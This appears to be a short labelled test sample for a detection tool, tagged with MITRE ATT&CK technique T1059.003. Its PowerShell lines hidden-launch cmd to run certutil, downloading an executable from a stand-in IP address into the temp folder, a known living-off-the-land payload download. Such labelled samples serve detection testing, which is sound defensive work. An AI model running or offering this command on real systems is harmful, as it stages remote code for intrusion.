# expect: T1059.003
$sh = New-Object -ComObject WScript.Shell
$sh.Run('cmd /c certutil -urlcache -f http://203.0.113.20/p.exe %TEMP%\p.exe', 0)
